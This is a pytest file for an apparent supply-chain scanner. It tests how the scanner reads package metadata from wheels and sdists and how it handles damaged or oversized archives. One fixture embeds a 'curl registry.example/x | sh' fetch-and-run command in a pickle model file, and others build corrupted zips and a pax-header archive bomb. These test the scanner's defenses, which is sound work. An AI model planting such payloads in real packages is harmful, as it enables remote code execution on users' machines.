"""Wheels and sdists in the tree: names, versions, licenses, vendored packages, model files."""

from __future__ import annotations

import io
import json
import os
import tarfile
import zipfile
from pathlib import Path

import pytest

from mlgate.cli import main
from mlgate.inventory import build_inventory
from mlgate.model import Scope
from tests.inspect.samples import call

METADATA = """Metadata-Version: 2.4
Name: {name}
Version: {version}
License-Expression: {license}

Body text.
"""


def metadata(name: str, version: str, license: str = "MIT") -> bytes:
    return METADATA.format(name=name, version=version, license=license).encode()


def write_wheel(path: Path, members: dict[str, bytes]) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return path


def write_sdist(path: Path, members: dict[str, bytes]) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    with tarfile.open(path, "w:gz") as tf:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return path


def test_wheel_with_vendored_packages(tmp_path: Path) -> None:
    write_wheel(
        tmp_path / "dist/serving_kit-1.4.0-py3-none-any.whl",
        {
            "serving_kit/__init__.py": b"",
            "serving_kit-1.4.0.dist-info/METADATA": metadata("serving-kit", "1.4.0", "Apache-2.0"),
            "serving_kit/_vendor/requests-2.19.0.dist-info/METADATA": metadata(
                "requests", "2.19.0"
            ),
            "serving_kit/_vendor/urllib3-1.23.dist-info/METADATA": metadata("urllib3", "1.23"),
            "serving_kit/_vendor/broken.dist-info/METADATA": b"Summary: nothing\n",
        },
    )
    inv = build_inventory(tmp_path)
    comps = {c.name: c for c in inv.components}
    main_comp = comps["serving-kit"]
    assert (main_comp.version, main_comp.licenses) == ("1.4.0", ("Apache-2.0",))
    assert main_comp.purl == "pkg:pypi/serving-kit@1.4.0"
    assert main_comp.depends_on == ("requests", "urllib3")
    assert main_comp.declared_in[0].member == "serving_kit-1.4.0.dist-info/METADATA"
    vendored = comps["requests"]
    assert vendored.scope is Scope.TRANSITIVE and vendored.version == "2.19.0"
    assert vendored.prop("mlgate:vendored-in") == "serving-kit"
    assert vendored.declared_in[0].path == "dist/serving_kit-1.4.0-py3-none-any.whl"
    [warning] = [w for w in inv.warnings if "broken" in w.path]
    assert "without Name or Version" in warning.message


def test_sdists_tar_gz_and_zip(tmp_path: Path) -> None:
    write_sdist(
        tmp_path / "vendor/tiny_lib-0.3.1.tar.gz",
        {
            "tiny_lib-0.3.1/setup.py": b"",
            "tiny_lib-0.3.1/PKG-INFO": metadata("tiny-lib", "0.3.1", "BSD-3-Clause"),
        },
    )
    write_wheel(tmp_path / "vendor/other-2.0.zip", {"other-2.0/PKG-INFO": metadata("other", "2.0")})
    write_sdist(tmp_path / "data/images-2024.tar.gz", {"images-2024/a.png": b"\x89PNG"})
    inv = build_inventory(tmp_path)
    comps = {c.name: c for c in inv.components}
    assert comps["tiny-lib"].version == "0.3.1"
    assert comps["tiny-lib"].licenses == ("BSD-3-Clause",)
    assert comps["tiny-lib"].declared_in[0].member == "tiny_lib-0.3.1/PKG-INFO"
    assert comps["other"].version == "2.0"
    assert "images" not in comps  # a tarball named like an sdist without PKG-INFO
    assert not [w for w in inv.warnings if "images-2024" in w.path]


def test_damaged_wheel_is_a_warning_and_the_scan_goes_on(tmp_path: Path) -> None:
    (tmp_path / "bad-1.0-py3-none-any.whl").write_bytes(b"PK\x03\x04 truncated")
    (tmp_path / "requirements.txt").write_text("numpy==1.26.0\n")
    inv = build_inventory(tmp_path)
    assert [c.name for c in inv.components] == ["numpy"]
    [warning] = inv.warnings
    assert warning.path == "bad-1.0-py3-none-any.whl" and "not a readable zip" in warning.message


def test_model_files_inside_wheels_are_scanned(tmp_path: Path) -> None:
    """A wheel is a zip: the model scanner opens it by content and finds the pickle inside."""
    payload = call("os", "system", "curl registry.example/x | sh")
    write_wheel(
        tmp_path / "dist/model_pkg-1.0-py3-none-any.whl",
        {
            "model_pkg-1.0.dist-info/METADATA": metadata("model-pkg", "1.0"),
            "model_pkg/weights/model.pkl": payload,
        },
    )
    out = tmp_path.parent / "result.json"
    code = main(["-q", "scan", str(tmp_path), "--no-vulns", "--json", str(out)])
    data = json.loads(out.read_text())
    pickles = [
        f
        for f in data["findings"]
        if f["location"]["path"] == "dist/model_pkg-1.0-py3-none-any.whl"
        and f["location"].get("member") == "model_pkg/weights/model.pkl"
    ]
    assert pickles and code == 1
    assert any(f["severity"] in ("critical", "high") for f in pickles)
    names = {c["name"] for c in data["components"]}
    assert "model-pkg" in names


def _hostile_zip(path: Path, member: str, how: str) -> Path:
    """A wheel or zip sdist whose metadata member cannot be read: zipfile raises something else
    each time."""
    data = metadata("hostile", "1.0")
    method = zipfile.ZIP_DEFLATED if how == "deflate" else zipfile.ZIP_STORED
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w", method) as zf:
        zf.writestr(member, data)
    raw = bytearray(path.read_bytes())
    central = raw.rindex(b"PK\x01\x02")
    start = 30 + len(member)  # local header + name, no extra field
    if how == "encrypted":  # RuntimeError: password required
        raw[central + 8] |= 0x01
    elif how == "method":  # NotImplementedError: compression method not supported
        raw[central + 10 : central + 12] = (97).to_bytes(2, "little")
    elif how == "deflate":  # zlib.error: invalid deflate data
        raw[start : start + 8] = b"\xff" * 8
    elif how == "crc":  # BadZipFile: bad CRC-32
        raw[start] ^= 0xFF
    path.write_bytes(bytes(raw))
    return path


def test_unreadable_metadata_members_are_warnings_never_a_crash(tmp_path: Path) -> None:
    hows = ("encrypted", "method", "deflate", "crc")
    for how in hows:
        wheel = tmp_path / f"w{how}/hostile-1.0-py3-none-any.whl"
        _hostile_zip(wheel, "hostile-1.0.dist-info/METADATA", how)
        _hostile_zip(tmp_path / f"s{how}/hostile-1.0.zip", "hostile-1.0/PKG-INFO", how)
    sdist = write_sdist(
        tmp_path / "t/hostile-1.0.tar.gz", {f"hostile-1.0/f{i}": os.urandom(4000) for i in range(3)}
    )
    raw = bytearray(sdist.read_bytes())
    raw[20:60] = b"\xff" * 40  # the deflate stream, past the gzip header
    sdist.write_bytes(bytes(raw))
    (tmp_path / "requirements.txt").write_text("numpy==1.26.0\n")
    inv = build_inventory(tmp_path)
    assert "numpy" in {c.name for c in inv.components}
    assert any(w.path == "t/hostile-1.0.tar.gz" for w in inv.warnings)
    for how in hows:
        for path in (f"w{how}/hostile-1.0-py3-none-any.whl", f"s{how}/hostile-1.0.zip"):
            assert any(w.path.startswith(path) for w in inv.warnings), path
    out = tmp_path.parent / "result.json"
    # the model scanner reads the same zips: tampering and damage are its findings (exit 1)
    code = main(["-q", "scan", str(tmp_path), "--no-vulns", "--json", str(out)])
    assert code == 1
    warned = {w["path"].split("/")[0] for w in json.loads(out.read_text())["warnings"]}
    assert {f"{kind}{how}" for how in hows for kind in "ws"} <= warned


def test_sdist_with_a_huge_pax_header_is_refused(tmp_path: Path) -> None:
    """tarfile reads a pax or GNU long-name header whole, however large it claims to be: one
    far beyond any real header (8 MB here, compressed to a few KB) is refused unread."""
    path = tmp_path / "vendor/bomb-1.0.tar.gz"
    path.parent.mkdir(parents=True)
    with tarfile.open(path, "w:gz", format=tarfile.PAX_FORMAT) as tf:
        info = tarfile.TarInfo("bomb-1.0/setup.py")
        info.pax_headers = {"comment": "x" * (8 * 1024 * 1024)}
        tf.addfile(info, io.BytesIO(b""))
        data = metadata("bomb", "1.0")
        pkg = tarfile.TarInfo("bomb-1.0/PKG-INFO")
        pkg.size = len(data)
        tf.addfile(pkg, io.BytesIO(data))
    inv = build_inventory(tmp_path)
    assert "bomb" not in {c.name for c in inv.components}
    [warning] = [w for w in inv.warnings if w.path == "vendor/bomb-1.0.tar.gz"]
    assert "header" in warning.message


def test_member_bound_is_checked_before_the_listing_is_built(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A zip named like an sdist with more members than any sdist (a dataset) is not one: no
    warning. A wheel beyond the bound is refused. Neither is listed whole by zipfile first."""
    from mlgate.inventory import wheels

    monkeypatch.setattr(wheels, "MAX_MEMBERS", 10)  # a bound small enough for a test
    many = {f"images-2024/{i}.png": b"\x89PNG" for i in range(11)}
    write_wheel(tmp_path / "data/images-2024.zip", many)
    write_wheel(
        tmp_path / "dist/big-1.0-py3-none-any.whl",
        {"big-1.0.dist-info/METADATA": metadata("big", "1.0"), **many},
    )
    inv = build_inventory(tmp_path)
    assert [w.path for w in inv.warnings] == ["dist/big-1.0-py3-none-any.whl"]
    assert "more than 10 members" in inv.warnings[0].message


def test_a_wheel_passed_by_path_is_scanned_alone(tmp_path: Path) -> None:
    """`mlgate scan dist/x.whl`: the wheel's packages and the pickle it carries, nothing else."""
    wheel = write_wheel(
        tmp_path / "dist/model_pkg-1.0-py3-none-any.whl",
        {
            "model_pkg-1.0.dist-info/METADATA": metadata("model-pkg", "1.0"),
            "model_pkg/_vendor/urllib3-1.23.dist-info/METADATA": metadata("urllib3", "1.23"),
            "model_pkg/weights/model.pkl": call("os", "system", "id"),
        },
    )
    (tmp_path / "dist/requirements.txt").write_text("flask==2.0.0\n")  # beside it: not scanned
    out = tmp_path / "result.json"
    code = main(["-q", "scan", str(wheel), "--no-vulns", "--json", str(out)])
    data = json.loads(out.read_text())
    assert code == 1
    # the packages, and the wheel itself as a file component (it carries a model)
    assert {c["name"] for c in data["components"]} == {"model-pkg", "urllib3", wheel.name}
    assert {f["location"]["path"] for f in data["findings"]} == {wheel.name}
    assert main(["-q", "scan", str(wheel), "--include", "x"]) == 2
